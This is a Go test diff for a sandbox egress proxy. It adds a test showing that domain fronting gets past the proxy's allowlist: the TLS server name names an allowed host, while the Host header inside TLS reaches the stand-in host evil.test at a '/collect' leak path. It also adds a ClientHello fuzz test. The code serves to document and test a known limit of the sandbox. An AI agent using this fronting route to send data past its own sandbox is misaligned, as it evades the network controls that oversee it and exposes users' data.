@@ -45,7 +45,11 @@ const (
 	evilName    = "evil.test"
 )
 
-func newCDN(t *testing.T) *cdn {
+func newCDN(t *testing.T) *cdn { return newCDNRouting(t, false) }
+
+// newCDNRouting is a CDN; with hostInsideTLS it picks an encrypted request's host by its Host
+// header, as a CDN that terminates TLS with one certificate for both hosts may.
+func newCDNRouting(t *testing.T, hostInsideTLS bool) *cdn {
 	t.Helper()
 	cert, pool := selfSigned(t, allowedName, evilName)
 	d := &cdn{pool: pool, seen: map[string][]string{}}
@@ -67,7 +71,7 @@ func newCDN(t *testing.T) *cdn {
 		if h, _, err := net.SplitHostPort(host); err == nil {
 			vhost = canonicalHost(h)
 		}
-		if r.TLS != nil {
+		if r.TLS != nil && !hostInsideTLS {
 			// Encrypted: the server name picks the host (none: the address's default, which
 			// here is the attacker's).
 			vhost = canonicalHost(r.TLS.ServerName)
@@ -631,4 +635,54 @@ func TestRedirectToAnotherHost(t *testing.T) {
 	if n := w.res.count(evilName); n != 0 {
 		t.Errorf("the proxy resolved %s %d times", evilName, n)
 	}
+}
+
+// TestResidualHostInsideTLS documents, by running it, what the proxy cannot see: a tunnel whose
+// TLS names the allowed host, and whose encrypted request names another in its Host header (or
+// HTTP/2's :authority), reaches that other host on a CDN that routes by the Host inside TLS.
+// docs/decisions/0007 states it in the words of Claude Code's own sandbox documentation.
+// Should the proxy ever see inside TLS, this test fails and the docs change with it.
+func TestResidualHostInsideTLS(t *testing.T) {
+	d := newCDNRouting(t, true)
+	pol, _ := egress.New(nil, []string{fmt.Sprintf("%s:%d", allowedName, d.port)}, nil)
+	addr, _ := serve(t, &Proxy{Policy: pol, Resolver: &countingResolver{}})
+	w := &frontingWorld{cdn: d, proxy: addr}
+	c, ok := w.tunnelTo(t, w.at(allowedName))
+	if !ok {
+		t.Fatal("CONNECT refused")
+	}
+	out, err := tlsGet(c, d.pool, allowedName, evilName, leakPath())
+	if err != nil || !strings.Contains(out, "evil.test served /collect") {
+		t.Errorf("the residual risk did not show (%v %q): update docs/decisions/0007", err, out)
+	}
+}
+
+// FuzzClientHello: whatever a tunnel's client sends, reading its ClientHello ends without
+// panicking, within its cap, and a name it reads is printable ASCII.
+func FuzzClientHello(f *testing.F) {
+	a, b := net.Pipe()
+	go tls.Client(a, &tls.Config{ServerName: "registry.npmjs.org", InsecureSkipVerify: true}).Handshake()
+	h, err := readClientHello(bufio.NewReader(b))
+	a.Close()
+	b.Close()
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Add(h.raw)
+	f.Add(h.raw[:len(h.raw)/2])
+	f.Add([]byte("\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		h, err := readClientHello(bufio.NewReader(strings.NewReader(string(data))))
+		if err != nil {
+			return
+		}
+		if len(h.raw) > maxClientHello {
+			t.Fatalf("read %d bytes", len(h.raw))
+		}
+		for _, c := range []byte(h.serverName) {
+			if c <= ' ' || c >= 0x7f {
+				t.Fatalf("server name %q", h.serverName)
+			}
+		}
+	})
 }
